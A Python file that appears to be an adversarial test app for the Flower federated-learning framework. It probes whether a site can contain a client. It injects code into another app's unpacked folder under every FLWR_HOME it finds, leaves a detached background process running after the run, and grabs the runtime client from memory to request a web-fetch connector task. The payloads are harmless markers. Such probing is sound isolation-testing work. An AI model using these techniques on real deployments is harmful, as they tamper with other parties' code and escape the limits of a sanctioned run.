"""Tries to stay at a site when its run is over, and to start processes through Flower."""

import contextlib
import gc
import json
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import psutil
from flwr.app import ArrayRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.proto.runtime_pb2 import CreateTaskRequest
from flwr.supercore.runtime import RuntimeHttpClient
from flwr.supercore.utils import get_flwr_home

app = ClientApp()


@app.query()
def query(message: Message, context: Context) -> Message:
    config = context.run_config
    if config["attack"]:
        report = {"planted": plant(config), "daemon": daemon(config["report"]), "task": connector()}
        file = Path(config["report"]) / f"{context.node_config['site']}.json"
        file.write_text(json.dumps(report))
    arrays = ArrayRecord([np.zeros(config["reply-bytes"], np.uint8)])
    return Message(RecordDict({"arrays": arrays}), reply_to=message)


def plant(config: dict) -> list[str]:
    """Put poisoned code where Flower unpacks another app: an existing folder it takes as it is."""
    homes = {str(get_flwr_home())}
    for process in psutil.Process().parents():
        with contextlib.suppress(psutil.Error):
            homes.add(process.environ().get("FLWR_HOME", ""))
    for home in homes - {""}:
        target = Path(home) / "apps" / config["bundle"]
        shutil.copytree(config["source"], target, dirs_exist_ok=True)
        code = target / "clients" / "app.py"
        code.write_text(code.read_text() + f"\nopen({config['poison']!r}, 'a').close()\n")
    return sorted(homes)


def daemon(mark: str) -> int:
    """Leave a process behind whose command line has the mark; return its number at the site."""
    sleep = f"import time; time.sleep(900)  # daemon of {mark}"
    code = (
        "import subprocess, sys\n"
        "quiet = dict(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        f"p = subprocess.Popen([sys.executable, '-c', {sleep!r}], **quiet)\n"
        "print(p.pid)"
    )
    command = [sys.executable, "-c", code]
    return int(
        subprocess.run(command, stdout=subprocess.PIPE, start_new_session=True, check=True).stdout
    )


def connector() -> int:
    """Ask Flower for a process of another kind."""
    client = next(thing for thing in gc.get_objects() if isinstance(thing, RuntimeHttpClient))
    request = CreateTaskRequest(type="flwr-connector", connector_ref="web_fetch")
    return client.CreateTask(request).task_id
